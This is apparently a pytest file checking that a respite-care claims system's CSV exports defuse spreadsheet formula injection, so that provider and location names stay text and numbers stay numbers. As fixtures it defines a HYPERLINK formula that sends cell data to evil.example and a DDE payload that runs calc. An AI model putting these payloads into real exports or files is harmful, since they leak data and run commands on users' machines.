"""No CSV export hands a spreadsheet a formula: names typed by providers start as text.

A provider or location named `=HYPERLINK(…)` or `=cmd|…` must arrive in Excel as the text it
is, in the claims CSV (month and export), the leegstand register and the KPI tables; numbers,
negative credits and amounts among them, stay numbers.
"""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from respijt.claims.formats import spreadsheet_safe, table_csv
from tests.claims.test_claims import _cancel, _export, _world
from tests.claims_helpers import freeze, stay, tariff

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1;"Klik hier")'
DDE = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+A1", "'+A1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("De Linde", "De Linde"),
        ("-3", "-3"),
        ("-12,50", "-12,50"),
        ("-525.00", "-525.00"),
        ("+5", "+5"),
        (-5, -5),
        (3, 3),
        (0.375, 0.375),
        ("", ""),
    ],
)
def test_only_text_that_a_spreadsheet_would_run_gets_an_apostrophe(cell, expected):
    assert spreadsheet_safe(cell) == expected


def _rows(text: str, skip: int) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=";"))[skip:]


def _hostile_world(db, make):
    w = _world(make)
    w.provider.name = HYPERLINK
    w.location.name = DDE
    db.session.commit()
    tariff(db.session, w.delft, 1250, date(2027, 1, 1))
    return w


def test_claims_csv_of_the_month_and_of_an_export_hold_names_as_text(client, db, make):
    w = _hostile_world(db, make)
    exported = stay(db.session, w.unit, date(2027, 3, 10), date(2027, 3, 13))
    _export(db, "2027-03", w.provider)
    _cancel(db, exported)  # a credit line: negative nights and amount
    second, _ = _export(db, "2027-03", w.provider)
    freeze(date(2027, 4, 9))
    mine = make.token("provider", w.provider)

    month = client.get("/api/v1/claims?month=2027-03&format=csv&decimal=comma", headers=mine)
    assert month.status_code == 200, month.get_data(as_text=True)
    claim, credit = _rows(month.data.decode("utf-8-sig"), 1)
    for row in (claim, credit):
        assert (row[6], row[8]) == ("'" + HYPERLINK, "'" + DDE)
    assert (claim[16], claim[18]) == ("3", "37,50")
    assert (credit[16], credit[18]) == ("-3", "-37,50")  # numbers, not text

    export = client.get(f"/api/v1/claims/exports/{second.id}?format=csv", headers=mine)
    assert export.status_code == 200, export.get_data(as_text=True)
    [only] = _rows(export.data.decode("utf-8-sig"), 1)
    assert (only[6], only[8], only[16], only[18]) == ("'" + HYPERLINK, "'" + DDE, "-3", "-37.50")
    assert "\n=" not in export.data.decode("utf-8") and ";=" not in export.data.decode("utf-8")


def test_leegstand_csv_holds_names_as_text(client, db, make):
    w = _hostile_world(db, make)
    stay(db.session, w.unit, date(2027, 3, 10), date(2027, 3, 13))
    freeze(date(2027, 4, 9))
    answer = client.get(
        "/api/v1/reports/leegstand?month=2027-03&format=csv&decimal=comma",
        headers=make.token("coordinator"),
    )
    assert answer.status_code == 200, answer.get_data(as_text=True)
    [row] = _rows(answer.data.decode("utf-8-sig"), 1)
    assert (row[1], row[2]) == ("'" + HYPERLINK, "'" + DDE)
    assert row[-5:-1] == ["93", "3", "90", "0,0323"]


def test_kpi_csv_keeps_its_figures_as_numbers(client, db, make):
    _hostile_world(db, make)
    freeze(date(2027, 4, 9))
    answer = client.get(
        "/api/v1/reports/kpis?from=2027-03-01&to=2027-04-01&format=csv",
        headers=make.token("coordinator"),
    )
    assert answer.status_code == 200, answer.get_data(as_text=True)
    rows = dict(_rows(answer.data.decode("utf-8-sig"), 1))  # type: ignore[arg-type]
    assert rows["Aanvragen, totaal"] == "0"
    assert not any(value.startswith("'") for value in rows.values())


def test_every_table_csv_cell_is_neutralised_the_same_way():
    text = table_csv(("naam", "waarde"), [(HYPERLINK, -3), ("+3", "-12,50")])
    assert _rows(text, 1) == [["'" + HYPERLINK, "-3"], ["+3", "-12,50"]]
